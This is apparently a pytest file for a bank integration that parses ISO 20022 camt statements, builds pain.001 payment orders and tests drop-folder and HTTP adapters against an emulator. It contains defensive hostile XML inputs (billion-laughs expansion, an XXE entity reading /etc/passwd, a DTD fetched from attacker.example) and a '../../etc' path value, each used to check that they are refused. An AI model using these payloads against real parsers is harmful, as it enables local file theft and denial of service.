"""The bank at the edge: camt.053/camt.054 in, pain.001 out, through a drop folder or an HTTP API.

No database: these tests read the sample documents in docs/samples/bank/, and drive the adapters against
files in a temporary folder and against the emulated bank on 127.0.0.1.
"""

import os
import socket
import time
import xml.etree.ElementTree as ET
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal
from pathlib import Path

import pytest

from counterparties.banks import (
    Debtor,
    DropFolderBank,
    HttpBank,
    Payment,
    PaymentState,
    build_pain001,
    parse_pain001,
    parse_statement,
    parse_statements,
)
from counterparties.banks.iso20022 import NS_PAIN001
from counterparties.errors import ErrorCode, IndeterminateResult, PermanentError, TransientError
from emulators.bank import start_bank_emulator

SAMPLES = Path(__file__).resolve().parent.parent / "docs" / "samples" / "bank"
CST = timezone(timedelta(hours=8))
AGENCY_USD = "012-875-1-234567-8"
SPECIAL_CNY = "11050163560000000123"
TREASURY = "270001040000000001"
TOKEN = "test-bank-token"


def sample(name: str) -> bytes:
    return (SAMPLES / name).read_bytes()


# A small statement to break in different ways; IBAN account, one entry.
BASE_CAMT053 = """<?xml version="1.0" encoding="UTF-8"?>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08">
 <BkToCstmrStmt>
  <GrpHdr><MsgId>M1</MsgId><CreDtTm>2025-06-12T23:00:00+08:00</CreDtTm></GrpHdr>
  <Stmt>
   <Id>S1</Id>
   <Acct><Id><IBAN>DE89370400440532013000</IBAN></Id><Ccy>USD</Ccy></Acct>
   <Bal><Tp><CdOrPrtry><Cd>OPBD</Cd></CdOrPrtry></Tp><Amt Ccy="USD">10.00</Amt><CdtDbtInd>CRDT</CdtDbtInd>
     <Dt><Dt>2025-06-12</Dt></Dt></Bal>
   <Bal><Tp><CdOrPrtry><Cd>CLBD</Cd></CdOrPrtry></Tp><Amt Ccy="USD">110.50</Amt><CdtDbtInd>CRDT</CdtDbtInd>
     <Dt><Dt>2025-06-12</Dt></Dt></Bal>
   <Ntry>
    <Amt Ccy="USD">100.50</Amt>
    <CdtDbtInd>CRDT</CdtDbtInd>
    <Sts><Cd>BOOK</Cd></Sts>
    <BookgDt><Dt>2025-06-12</Dt></BookgDt>
    <ValDt><Dt>2025-06-13</Dt></ValDt>
    <AcctSvcrRef>REF-1</AcctSvcrRef>
    <BkTxCd><Domn><Cd>PMNT</Cd><Fmly><Cd>RCDT</Cd><SubFmlyCd>XBCT</SubFmlyCd></Fmly></Domn></BkTxCd>
    <NtryDtls><TxDtls>
     <Refs><EndToEndId>E2E-1</EndToEndId></Refs>
     <AmtDtls><InstdAmt><Amt Ccy="USD">100.50</Amt>
      <CcyXchg><SrcCcy>USD</SrcCcy><TrgtCcy>CNY</TrgtCcy><XchgRate>7.1834</XchgRate></CcyXchg></InstdAmt></AmtDtls>
     <RmtInf><Ustrd>proceeds</Ustrd></RmtInf>
    </TxDtls></NtryDtls>
   </Ntry>
  </Stmt>
 </BkToCstmrStmt>
</Document>
"""


def camt(**replacements) -> bytes:
    text = BASE_CAMT053
    for old, new in replacements.values():
        assert old in text, old
        text = text.replace(old, new, 1)
    return text.encode()


def remittance_order(msg_id="PORTAL-REM-0001", amounts=("8567907.30",), created=None, prefix="REM") -> bytes:
    payments = [Payment(f"{prefix}-{i}", Decimal(a), "CNY", "国家金库北京市顺义区支库", TREASURY, f"缴款码 {i:020d}")
                for i, a in enumerate(amounts, 1)]
    return build_pain001(msg_id, Debtor("北京市公安局顺义分局", SPECIAL_CNY), payments,
                         created or datetime(2025, 6, 13, 10, 0, tzinfo=CST))


# ---------------------------------------------------------------------------------------------------
# Reading statements


def test_it_reads_the_offshore_statement_with_every_entry():
    st = parse_statement(sample("camt053_offshore_usd_statement.xml"))

    assert (st.kind, st.account, st.currency) == ("camt.053", AGENCY_USD, "USD")
    assert st.statement_id == "0128751234567820250612"
    assert st.created == datetime(2025, 6, 12, 23, 30, tzinfo=CST)
    assert st.owner_name == "Example Digital Asset Disposal Services (HK) Ltd"
    assert st.balances == {"OPBD": Decimal("1000.00"), "CLBD": Decimal("1043.19")}
    assert len(st.digest) == 64
    assert [(e.amount, e.credit) for e in st.entries] == [
        (Decimal("0.10"), True), (Decimal("0.20"), True), (Decimal("1234567.89"), True),
        (Decimal("25.00"), False), (Decimal("1234500.00"), False)]

    proceeds = st.entries[2]
    assert proceeds.currency == "USD"
    assert proceeds.booking_date == proceeds.value_date == date(2025, 6, 12)
    assert proceeds.bank_ref == "HK250612004711"
    assert proceeds.end_to_end_id == "VATP-STL-20250612-0007"
    assert proceeds.remittance == ("SETTLEMENT TRADE T-20250612-0007 ENTRUSTMENT BJ-SY-2025-0001 "
                                   "LOT 1 BTC 15.00000000")
    assert proceeds.additional_info == "INWARD REMITTANCE"
    assert proceeds.fx is None and proceeds.booked and not proceeds.reversal

    charge = st.entries[3]
    assert charge.end_to_end_id is None and charge.remittance is None
    assert charge.additional_info == "INWARD REMITTANCE CHARGE HK250612004711"

    conversion = st.entries[4]
    assert conversion.fx.source_currency == "USD" and conversion.fx.target_currency == "CNY"
    assert conversion.fx.rate == Decimal("7.1834")
    assert conversion.fx.source_amount == Decimal("1234500.00")
    assert conversion.fx.target_amount == Decimal("8867907.30")


def test_amounts_are_exact_decimals_never_floats():
    st = parse_statement(sample("camt053_offshore_usd_statement.xml"))

    assert all(type(e.amount) is Decimal for e in st.entries)
    micro = st.entries[0].amount + st.entries[1].amount
    assert micro == Decimal("0.30")  # as floats, 0.1 + 0.2 == 0.30000000000000004
    assert 0.1 + 0.2 != 0.3
    credits = sum((e.amount for e in st.entries if e.credit), Decimal(0))
    debits = sum((e.amount for e in st.entries if not e.credit), Decimal(0))
    assert (credits, debits) == (Decimal("1234568.19"), Decimal("1234525.00"))
    assert st.balances["OPBD"] + credits - debits == st.balances["CLBD"]


def test_it_reads_the_conversion_notification_with_the_exchange_details():
    st = parse_statement(sample("camt054_fx_credit_cny.xml"))

    assert (st.kind, st.account, st.currency) == ("camt.054", SPECIAL_CNY, "CNY")
    assert st.statement_id == "NTF-FX250612000318-C"
    assert st.owner_name == "北京市公安局顺义分局涉案款专用账户"
    (entry,) = st.entries
    assert (entry.amount, entry.currency, entry.credit) == (Decimal("8867907.30"), "CNY", True)
    assert entry.booking_date == date(2025, 6, 12)  # from BookgDt/DtTm
    assert entry.bank_ref == "FX250612000318-C"
    assert entry.end_to_end_id == "FX-BJ-SY-2025-0001-1"
    assert entry.remittance == "结汇 BJ-SY-2025-0001 外汇局核准 京汇〔2025〕0318 国际收支申报号 110000202506120318"
    assert entry.additional_info == "结汇入账 FX SETTLEMENT CREDIT"
    fx = entry.fx
    assert (fx.source_currency, fx.target_currency, fx.unit_currency) == ("USD", "CNY", "USD")
    assert (fx.rate, fx.source_amount, fx.target_amount) == (Decimal("7.1834"), Decimal("1234500.00"),
                                                            Decimal("8867907.30"))
    assert fx.contract_id == "FX250612000318"
    assert fx.implied_target_amount() == entry.amount


def test_both_legs_of_the_sample_conversion_agree():
    usd_leg = parse_statement(sample("camt053_offshore_usd_statement.xml")).entries[4]
    cny_leg = parse_statement(sample("camt054_fx_credit_cny.xml")).entries[0]
    assert usd_leg.fx == cny_leg.fx
    assert usd_leg.end_to_end_id == cny_leg.end_to_end_id
    assert usd_leg.amount == cny_leg.fx.source_amount and cny_leg.amount == usd_leg.fx.target_amount


def test_it_reads_an_iban_account_and_keeps_every_transaction_of_a_batch_entry():
    st = parse_statement(camt(iban=("<Id><IBAN>DE89370400440532013000</IBAN></Id>",
                                    "<Id><IBAN>DE89370400440532013000</IBAN></Id>")))
    assert st.account == "DE89370400440532013000"
    assert st.entries[0].fx.target_amount is None  # no CNY amount in this entry: not invented

    batch = camt(tx=("<NtryDtls><TxDtls>",
                     "<NtryDtls><TxDtls><Refs><EndToEndId>NOTPROVIDED</EndToEndId></Refs>"
                     "<Amt Ccy=\"USD\">0.50</Amt><CdtDbtInd>CRDT</CdtDbtInd></TxDtls><TxDtls>"))
    entry = parse_statement(batch).entries[0]
    assert entry.end_to_end_id is None and entry.remittance is None  # two transactions: read details
    assert [d.end_to_end_id for d in entry.details] == [None, "E2E-1"]
    assert entry.details[0].amount == Decimal("0.50")


def test_it_reads_the_older_status_shape_and_several_accounts_in_one_document():
    old = camt(ns=("camt.053.001.08", "camt.053.001.02"), sts=("<Sts><Cd>BOOK</Cd></Sts>", "<Sts>BOOK</Sts>"))
    assert parse_statement(old).entries[0].status == "BOOK"

    text = BASE_CAMT053
    stmt = text[text.index("<Stmt>"):text.index("</Stmt>") + len("</Stmt>")]
    two = text.replace(stmt, stmt + stmt.replace("<Id>S1</Id>", "<Id>S2</Id>")).encode()
    assert [s.statement_id for s in parse_statements(two)] == ["S1", "S2"]
    with pytest.raises(PermanentError, match="2 account reports"):
        parse_statement(two)


ENTRY_AMOUNT = '<Amt Ccy="USD">100.50</Amt>\n    <CdtDbtInd>'


def entry_amount(element: str) -> tuple[str, str]:
    return ENTRY_AMOUNT, element + "<CdtDbtInd>"


MALFORMED = {
    "no indicator": (("<CdtDbtInd>CRDT</CdtDbtInd>\n    <Sts>", "<Sts>"),
                     "Stmt[1]/Ntry[1]/CdtDbtInd is missing"),
    "odd indicator": (("<CdtDbtInd>CRDT</CdtDbtInd>\n    <Sts>", "<CdtDbtInd>CREDIT</CdtDbtInd><Sts>"),
                      "Ntry[1]/CdtDbtInd is 'CREDIT'; expected CRDT or DBIT"),
    "thousands separator": (entry_amount('<Amt Ccy="USD">1,100.50</Amt>'),
                            "Ntry[1]/Amt amount '1,100.50' is not a plain decimal"),
    "sub-cent USD": (entry_amount('<Amt Ccy="USD">100.505</Amt>'),
                     "at most 2 decimal place(s) for USD"),
    "negative": (entry_amount('<Amt Ccy="USD">-100.50</Amt>'),
                 "Ntry[1]/Amt amount '-100.50'"),
    "exponent": (entry_amount('<Amt Ccy="USD">1.005E2</Amt>'),
                 "Ntry[1]/Amt amount '1.005E2'"),
    "yen with decimals": (entry_amount('<Amt Ccy="JPY">100.5</Amt>'),
                          "at most 0 decimal place(s) for JPY"),
    "lower-case currency": (entry_amount('<Amt Ccy="usd">100.50</Amt>'),
                            "Ntry[1]/Amt has currency 'usd'; expected a 3-letter ISO 4217 code"),
    "no currency": (entry_amount('<Amt>100.50</Amt>'),
                    "Ntry[1]/Amt has currency None"),
    "empty amount": (entry_amount('<Amt Ccy="USD"> </Amt>'),
                     "Ntry[1]/Amt has no amount"),
    "bad rate": (("<XchgRate>7.1834</XchgRate>", "<XchgRate>seven</XchgRate>"),
                 "CcyXchg/XchgRate 'seven' is not a positive decimal rate"),
    "bad date": (("<BookgDt><Dt>2025-06-12</Dt></BookgDt>", "<BookgDt><Dt>2025-13-01</Dt></BookgDt>"),
                 "Ntry[1]/BookgDt is not an ISO date"),
    "no account id": (("<Id><IBAN>DE89370400440532013000</IBAN></Id>", "<Id/>"),
                      "Stmt[1]/Acct/Id has neither IBAN nor Othr/Id"),
    "no status": (("<Sts><Cd>BOOK</Cd></Sts>", ""), "Ntry[1]/Sts is missing"),
    "does not add up": (('<Amt Ccy="USD">110.50</Amt>', '<Amt Ccy="USD">110.49</Amt>'),
                        "closing balance (CLBD) is 110.49"),
    "no message id": (("<MsgId>M1</MsgId>", ""), "GrpHdr/MsgId is missing"),
    "payment order instead": (("camt.053.001.08", "pain.001.001.09"), "expected Document in a camt.053 or camt.054"),
    "truncated": (("</Document>", ""), "not well-formed XML"),
    "latin-1": (('encoding="UTF-8"', 'encoding="ISO-8859-1"'), "only UTF-8 is accepted"),
}


@pytest.mark.parametrize("change, message", MALFORMED.values(), ids=MALFORMED.keys())
def test_a_malformed_statement_is_refused_naming_the_element(change, message):
    with pytest.raises(PermanentError) as caught:
        parse_statement(camt(change=change))
    error = caught.value
    assert message in error.message
    assert not error.transient and error.code == ErrorCode.BAD_RESPONSE and error.party == "bank"


HOSTILE = {
    "billion laughs": """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&lol2;</BkToCstmrStmt></Document>""",
    "external entity": """<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"><BkToCstmrStmt>&xxe;</BkToCstmrStmt></Document>""",
    "bare doctype": """<!DOCTYPE Document SYSTEM "http://attacker.example/camt.dtd">
<Document xmlns="urn:iso:std:iso:20022:tech:xsd:camt.053.001.08"/>""",
}


@pytest.mark.security
@pytest.mark.parametrize("document", HOSTILE.values(), ids=HOSTILE.keys())
def test_dtds_and_entities_are_refused_before_parsing(document):
    with pytest.raises(PermanentError, match=r"DTD \(<!DOCTYPE\); refused"):
        parse_statement(document.encode())


@pytest.mark.security
def test_a_document_in_another_encoding_cannot_smuggle_a_dtd():
    hidden = HOSTILE["external entity"].replace('encoding="UTF-8"', "").encode("utf-16")
    with pytest.raises(PermanentError, match="is not UTF-8"):
        parse_statement(hidden)


# ---------------------------------------------------------------------------------------------------
# Writing payment orders


def test_pain001_round_trip_counts_and_sums_exactly():
    created = datetime(2025, 6, 13, 10, 0, tzinfo=CST)
    xml = remittance_order(amounts=("0.10", "0.20", "8567907.30"), created=created)

    root = ET.fromstring(xml)
    ns = {"p": NS_PAIN001}
    assert root.tag == f"{{{NS_PAIN001}}}Document"
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:MsgId", namespaces=ns) == "PORTAL-REM-0001"
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CreDtTm", namespaces=ns) == "2025-06-13T10:00:00+08:00"
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:NbOfTxs", namespaces=ns) == "3"
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CtrlSum", namespaces=ns) == "8567907.60"
    pmt = root.find("p:CstmrCdtTrfInitn/p:PmtInf", ns)
    assert pmt.findtext("p:NbOfTxs", namespaces=ns) == "3"
    assert pmt.findtext("p:CtrlSum", namespaces=ns) == "8567907.60"
    assert pmt.findtext("p:DbtrAcct/p:Id/p:Othr/p:Id", namespaces=ns) == SPECIAL_CNY
    txs = pmt.findall("p:CdtTrfTxInf", ns)
    assert [t.findtext("p:PmtId/p:EndToEndId", namespaces=ns) for t in txs] == ["REM-1", "REM-2", "REM-3"]
    amounts = [t.find("p:Amt/p:InstdAmt", ns) for t in txs]
    assert [(a.text, a.get("Ccy")) for a in amounts] == [("0.10", "CNY"), ("0.20", "CNY"), ("8567907.30", "CNY")]
    assert sum(Decimal(a.text) for a in amounts) == Decimal(root.findtext(
        "p:CstmrCdtTrfInitn/p:GrpHdr/p:CtrlSum", namespaces=ns))
    assert txs[0].findtext("p:CdtrAcct/p:Id/p:Othr/p:Id", namespaces=ns) == TREASURY
    assert txs[0].findtext("p:RmtInf/p:Ustrd", namespaces=ns) == "缴款码 00000000000000000001"

    order = parse_pain001(xml)
    assert (order.msg_id, order.nb_of_txs, order.ctrl_sum) == ("PORTAL-REM-0001", 3, Decimal("8567907.60"))
    assert [p.amount for p in order.payments] == [Decimal("0.10"), Decimal("0.20"), Decimal("8567907.30")]
    assert order.created == created


def test_the_sample_payment_order_is_what_the_builder_writes():
    xml = build_pain001(
        "PORTAL-REM-20250613-0001",
        Debtor("北京市公安局顺义分局", SPECIAL_CNY, agent_bic="EXMPCNBJXXX"),
        [Payment("REM-BJ-SY-2025-0001", Decimal("8567907.30"), "CNY", "国家金库北京市顺义区支库", TREASURY,
                 "非税收入 缴款码 11011325000012345678 BJ-SY-2025-0001", creditor_agent_bic="PBOCCNBJXXX"),
         Payment("RET-BJ-SY-2025-0001-01", Decimal("300000.00"), "CNY", "张某某", "6222020200012345678",
                 "发还 (2025)京0113刑初123号 判项三 BJ-SY-2025-0001")],
        datetime(2025, 6, 13, 10, 0, tzinfo=CST), execution_date=date(2025, 6, 13))
    assert xml == sample("pain001_treasury_remittance.xml")
    # The converted CNY of the conversion sample is exactly the remittance plus the return.
    assert parse_pain001(xml).ctrl_sum == parse_statement(sample("camt054_fx_credit_cny.xml")).entries[0].amount


def test_the_builder_refuses_what_a_bank_would_refuse_instead_of_rounding():
    debtor = Debtor("Bureau", SPECIAL_CNY)
    created = datetime(2025, 6, 13, tzinfo=UTC)

    def build(*payments, msg_id="M-1", when=created):
        return build_pain001(msg_id, debtor, list(payments), when)

    with pytest.raises(TypeError, match="must be a Decimal, not float"):
        build(Payment("E-1", 100.10, "CNY", "T", TREASURY))
    cases = [
        ((Payment("E-1", Decimal("100.105"), "CNY", "T", TREASURY),), {}, "more than 2 decimal places for CNY"),
        ((Payment("E-1", Decimal("0"), "CNY", "T", TREASURY),), {}, "must be a positive amount"),
        ((Payment("E-1", Decimal("-1.00"), "CNY", "T", TREASURY),), {}, "must be a positive amount"),
        ((Payment("E-1", Decimal("1"), "CNY", "T", TREASURY),) * 2, {}, "EndToEndId E-1 appears twice"),
        ((Payment("E 1/x", Decimal("1"), "CNY", "T", TREASURY),), {}, "EndToEndId 'E 1/x' must be"),
        ((Payment("E-1", Decimal("1"), "cny", "T", TREASURY),), {}, "not a 3-letter ISO 4217 code"),
        ((Payment("E-1", Decimal("1"), "CNY", "", TREASURY),), {}, "creditor name is empty"),
        ((), {}, "needs at least one payment"),
        ((Payment("E-1", Decimal("1"), "CNY", "T", TREASURY),), {"msg_id": "../../etc"}, "MsgId '../../etc'"),
        ((Payment("E-1", Decimal("1"), "CNY", "T", TREASURY),), {"when": datetime(2025, 6, 13)}, "time zone"),
    ]
    for payments, kwargs, message in cases:
        with pytest.raises(PermanentError, match=message) as caught:
            build(*payments, **kwargs)
        assert caught.value.code == ErrorCode.VALIDATION


def test_an_order_whose_totals_do_not_match_is_refused():
    xml = remittance_order(amounts=("100.10", "200.20")).decode()
    bad_count = xml.replace("<NbOfTxs>2</NbOfTxs>", "<NbOfTxs>3</NbOfTxs>", 1).encode()
    with pytest.raises(PermanentError, match="GrpHdr/NbOfTxs says 3 but there are 2 transactions"):
        parse_pain001(bad_count)
    bad_sum = xml.replace("<CtrlSum>300.30</CtrlSum>", "<CtrlSum>300.3000001</CtrlSum>").encode()
    with pytest.raises(PermanentError, match=r"CtrlSum says 300.3000001 but the amounts add up to 300.30"):
        parse_pain001(bad_sum)
    zero = xml.replace(">100.10<", ">0.00<").replace(">300.30<", ">200.20<").encode()
    with pytest.raises(PermanentError, match="InstdAmt must be positive"):
        parse_pain001(zero)


# ---------------------------------------------------------------------------------------------------
# The drop folder


@pytest.fixture
def folders(tmp_path):
    inbox, outbox = tmp_path / "inbox", tmp_path / "outbox"
    inbox.mkdir()
    outbox.mkdir()
    return inbox, outbox


def test_the_drop_folder_reads_files_in_name_order_from_the_cursor(folders):
    inbox, outbox = folders
    bank = DropFolderBank(inbox, outbox)
    (inbox / "20250612-002.xml").write_bytes(sample("camt054_fx_credit_cny.xml"))
    (inbox / "20250612-001.xml").write_bytes(sample("camt053_offshore_usd_statement.xml"))
    (inbox / ".listing.tmp").write_text("hidden files are not the bank's documents")

    statements, cursor = bank.statements_since(None)
    assert [(s.source, s.kind) for s in statements] == [("20250612-001.xml", "camt.053"),
                                                        ("20250612-002.xml", "camt.054")]
    assert cursor == "20250612-002.xml"
    assert bank.statements_since(cursor).statements == []

    (inbox / "20250613-001.xml").write_bytes(camt())
    batch = bank.statements_since(cursor)
    assert [s.source for s in batch.statements] == ["20250613-001.xml"]
    assert batch.cursor == "20250613-001.xml" and batch.rejected == []


def test_a_file_still_being_written_is_skipped_and_read_once_complete(folders):
    inbox, outbox = folders
    bank = DropFolderBank(inbox, outbox)
    (inbox / "001.xml").write_bytes(camt())
    (inbox / "002.xml.part").write_bytes(b"<?xml version='1.0'?><Document xmlns=")  # half written
    (inbox / "003.xml").write_bytes(sample("camt054_fx_credit_cny.xml"))

    batch = bank.statements_since(None)
    assert [s.source for s in batch.statements] == ["001.xml"]
    assert batch.rejected == []
    # Not past it: 002 is still to come, and taking 003 now would move the cursor beyond 002 for good.
    assert (batch.cursor, batch.waiting_on) == ("001.xml", "002.xml.part")

    os.replace(inbox / "002.xml.part", inbox / "002.xml")
    (inbox / "002.xml").write_bytes(sample("camt053_offshore_usd_statement.xml"))
    batch = bank.statements_since(batch.cursor)
    assert [s.source for s in batch.statements] == ["002.xml", "003.xml"]
    assert batch.cursor == "003.xml" and batch.waiting_on is None


def test_a_bad_file_is_rejected_by_name_without_blocking_the_files_after_it(folders):
    inbox, outbox = folders
    bank = DropFolderBank(inbox, outbox)
    (inbox / "001.xml").write_bytes(camt())
    (inbox / "002.xml").write_bytes(HOSTILE["external entity"].encode())
    (inbox / "003.xml").write_bytes(b"\x00\x01 not xml at all")
    (inbox / "004.xml").write_bytes(sample("camt054_fx_credit_cny.xml"))

    batch = bank.statements_since(None)
    assert [s.source for s in batch.statements] == ["001.xml", "004.xml"]
    assert [r.source for r in batch.rejected] == ["002.xml", "003.xml"]
    assert batch.rejected[0].error.message.startswith("bank file 002.xml: ")
    assert "refused" in batch.rejected[0].error.message
    assert "not well-formed" in batch.rejected[1].error.message
    assert all(isinstance(r.error, PermanentError) for r in batch.rejected)
    assert batch.cursor == "004.xml"  # the caller records the rejections, then stores the cursor


def test_a_missing_inbox_is_worth_a_retry(tmp_path):
    with pytest.raises(TransientError, match="cannot list bank inbox") as caught:
        DropFolderBank(tmp_path / "not-mounted", tmp_path).statements_since(None)
    assert caught.value.code == ErrorCode.CONNECTION


def test_submitting_to_the_drop_folder_is_atomic_and_idempotent(folders):
    inbox, outbox = folders
    bank = DropFolderBank(inbox, outbox)
    xml = remittance_order()

    status = bank.submit_payment(xml, "PORTAL-REM-0001")
    published = outbox / "PORTAL-REM-0001.xml"
    assert status.state == PaymentState.SUBMITTED and status.location == str(published)
    assert status.end_to_end_ids == ("REM-1",)
    assert published.read_bytes() == xml
    assert sorted(p.name for p in outbox.iterdir()) == [".submitted", "PORTAL-REM-0001.xml"]  # no .part left

    # The same order again, even rebuilt later with a new creation time: nothing new is written.
    again = bank.submit_payment(remittance_order(created=datetime(2025, 6, 13, 11, 0, tzinfo=CST)),
                                "PORTAL-REM-0001")
    assert again == status and published.read_bytes() == xml

    # The bank collects the file; a retry must still not hand it over a second time.
    published.unlink()
    assert bank.submit_payment(xml, "PORTAL-REM-0001").state == PaymentState.SUBMITTED
    assert not published.exists()

    with pytest.raises(PermanentError, match="already submitted with different payments") as caught:
        bank.submit_payment(remittance_order(amounts=("8567907.31",)), "PORTAL-REM-0001")
    assert caught.value.code == ErrorCode.VALIDATION
    with pytest.raises(PermanentError, match="does not match the order's GrpHdr/MsgId"):
        bank.submit_payment(xml, "PORTAL-REM-0002")

    assert bank.payment_status("PORTAL-REM-0001").state == PaymentState.SUBMITTED
    assert bank.payment_status("REM-1").msg_id == "PORTAL-REM-0001"
    assert bank.payment_status("NO-SUCH-REF").state == PaymentState.UNKNOWN


def test_the_emulated_bank_and_the_drop_folder_close_the_loop(tmp_path):
    _, emulator = start_bank_emulator(drop_dir=tmp_path, today=date(2025, 6, 13))
    try:
        bank = DropFolderBank(tmp_path / "inbox", tmp_path / "outbox")
        emulator.credit(SPECIAL_CNY, Decimal("8867907.30"), "CNY", "FX250612000318-C", "FX-1", "结汇 BJ-SY-2025-0001")
        statements, cursor = bank.statements_since(None)
        assert [(s.account, s.entries[0].amount) for s in statements] == [(SPECIAL_CNY, Decimal("8867907.30"))]

        bank.submit_payment(remittance_order(), "PORTAL-REM-0001")
        assert emulator.poll_outbox() == ["PORTAL-REM-0001.xml"]
        assert (tmp_path / "processed" / "PORTAL-REM-0001.xml").exists()
        bank.submit_payment(remittance_order(), "PORTAL-REM-0001")  # a retry after the pickup
        assert emulator.poll_outbox() == []
        emulator.book_payments()

        batch = bank.statements_since(cursor)
        debits = [e for s in batch.statements for e in s.entries if e.end_to_end_id == "REM-1" and not e.credit]
        assert [(d.amount, d.remittance) for d in debits] == [(Decimal("8567907.30"), "缴款码 00000000000000000001")]
        assert emulator.balance(TREASURY) == Decimal("8567907.30")
        assert emulator.balance(SPECIAL_CNY) == Decimal("300000.00")
    finally:
        emulator.stop()


# ---------------------------------------------------------------------------------------------------
# The HTTP bank, against the emulator


@pytest.fixture
def emulated():
    base_url, emulator = start_bank_emulator(token=TOKEN, today=date(2025, 6, 12))
    yield HttpBank(base_url, TOKEN, timeout=0.5), emulator
    emulator.stop()


def test_a_credit_shows_in_the_notifications_and_the_daily_statement(emulated):
    bank, emulator = emulated
    emulator.credit(AGENCY_USD, Decimal("1234567.89"), "USD", "HK250612004711", "VATP-STL-0007",
                    "SETTLEMENT BJ-SY-2025-0001", debtor="Example Virtual Asset Platform Ltd")

    statements, cursor = bank.statements_since(None)
    (note,) = statements
    assert (note.kind, note.account, note.currency) == ("camt.054", AGENCY_USD, "USD")
    (entry,) = note.entries
    assert (entry.amount, entry.credit, entry.bank_ref) == (Decimal("1234567.89"), True, "HK250612004711")
    assert (entry.end_to_end_id, entry.remittance) == ("VATP-STL-0007", "SETTLEMENT BJ-SY-2025-0001")
    assert entry.value_date == date(2025, 6, 12)

    emulator.credit(AGENCY_USD, Decimal("0.10"), "USD")
    emulator.credit(AGENCY_USD, Decimal("0.20"), "USD")
    emulator.issue_statements()
    batch = bank.statements_since(cursor)
    daily = [s for s in batch.statements if s.kind == "camt.053"]
    assert len(daily) == 1
    assert [e.amount for e in daily[0].entries] == [Decimal("1234567.89"), Decimal("0.10"), Decimal("0.20")]
    assert daily[0].balances == {"OPBD": Decimal("0.00"), "CLBD": Decimal("1234568.19")}
    assert bank.statements_since(batch.cursor).statements == []


def test_a_conversion_shows_the_rate_and_both_legs(emulated):
    bank, emulator = emulated
    emulator.credit(AGENCY_USD, Decimal("1234567.89"), "USD")
    emulator.convert(AGENCY_USD, "USD", Decimal("1234500.00"), Decimal("7.1834"), SPECIAL_CNY,
                     end_to_end_id="FX-BJ-SY-2025-0001-1", remittance="结汇 BJ-SY-2025-0001")

    _, cursor = bank.statements_since(None)
    emulator.issue_statements()
    by_account = {s.account: s for s in bank.statements_since(cursor).statements}
    usd_leg = by_account[AGENCY_USD].entries[-1]
    cny_leg = by_account[SPECIAL_CNY].entries[-1]
    assert (usd_leg.amount, usd_leg.currency, usd_leg.credit) == (Decimal("1234500.00"), "USD", False)
    assert (cny_leg.amount, cny_leg.currency, cny_leg.credit) == (Decimal("8867907.30"), "CNY", True)
    for leg in (usd_leg, cny_leg):
        assert leg.fx.rate == Decimal("7.1834")
        assert (leg.fx.source_currency, leg.fx.target_currency) == ("USD", "CNY")
        assert (leg.fx.source_amount, leg.fx.target_amount) == (Decimal("1234500.00"), Decimal("8867907.30"))
        assert leg.end_to_end_id == "FX-BJ-SY-2025-0001-1"
    assert by_account[AGENCY_USD].balances["CLBD"] == Decimal("67.89")
    assert by_account[SPECIAL_CNY].balances["CLBD"] == Decimal("8867907.30")


def test_a_payment_is_accepted_once_and_booked_to_the_treasury(emulated):
    bank, emulator = emulated
    emulator.credit(SPECIAL_CNY, Decimal("8867907.30"), "CNY")
    xml = remittance_order(amounts=("8567907.30", "300000.00"))

    first = bank.submit_payment(xml, "PORTAL-REM-0001")
    assert (first.state, first.end_to_end_ids) == (PaymentState.ACCEPTED, ("REM-1", "REM-2"))
    assert bank.submit_payment(xml, "PORTAL-REM-0001").state == PaymentState.ACCEPTED  # 200, same order
    emulator.book_payments()
    assert bank.payment_status("PORTAL-REM-0001").state == PaymentState.BOOKED
    assert bank.payment_status("REM-2").msg_id == "PORTAL-REM-0001"
    assert bank.payment_status("REM-404").state == PaymentState.UNKNOWN
    assert emulator.balance(SPECIAL_CNY) == Decimal("0.00")
    assert emulator.balance(TREASURY) == Decimal("8867907.30")


def test_the_bank_refuses_orders_it_cannot_carry_out_for_good(emulated):
    bank, emulator = emulated
    xml = remittance_order()
    with pytest.raises(PermanentError, match="debtor account .* is not held here") as caught:
        bank.submit_payment(xml, "PORTAL-REM-0001")  # the account does not exist yet
    assert (caught.value.http_status, caught.value.code) == (422, ErrorCode.VALIDATION)

    emulator.open_account(SPECIAL_CNY, "CNY")
    bank.submit_payment(xml, "PORTAL-REM-0001")
    with pytest.raises(PermanentError, match="MsgId PORTAL-REM-0001 was used for a different order"):
        bank.submit_payment(remittance_order(amounts=("1.00",)), "PORTAL-REM-0001")
    with pytest.raises(PermanentError, match="EndToEndId REM-1 was already instructed in PORTAL-REM-0001"):
        bank.submit_payment(remittance_order(msg_id="PORTAL-REM-0002"), "PORTAL-REM-0002")

    emulator.book_payments()  # nothing on the account: the bank rejects it when it comes to book
    status = bank.payment_status("PORTAL-REM-0001")
    assert status.state == PaymentState.REJECTED and "insufficient funds" in status.reason

    with pytest.raises(PermanentError) as caught:
        HttpBank(bank_url(bank), "wrong-token", timeout=0.5).statements_since(None)
    assert (caught.value.http_status, caught.value.code) == (401, ErrorCode.AUTH_FAILED)


def bank_url(bank: HttpBank) -> str:
    return f"http://{bank.host}:{bank.port}"


def test_an_unreadable_document_from_the_bank_is_rejected_and_passed(emulated):
    bank, emulator = emulated
    emulator.credit(AGENCY_USD, Decimal("1.00"), "USD")
    bad = emulator.inject_document(b"<Document>")
    emulator.credit(AGENCY_USD, Decimal("2.00"), "USD")

    batch = bank.statements_since(None)
    assert [s.entries[0].amount for s in batch.statements] == [Decimal("1.00"), Decimal("2.00")]
    assert [r.source for r in batch.rejected] == [bad.id]
    assert batch.rejected[0].error.message.startswith(f"bank document {bad.id}: ")


def test_the_http_adapter_keeps_its_token_to_itself():
    with pytest.raises(ValueError, match="https only"):
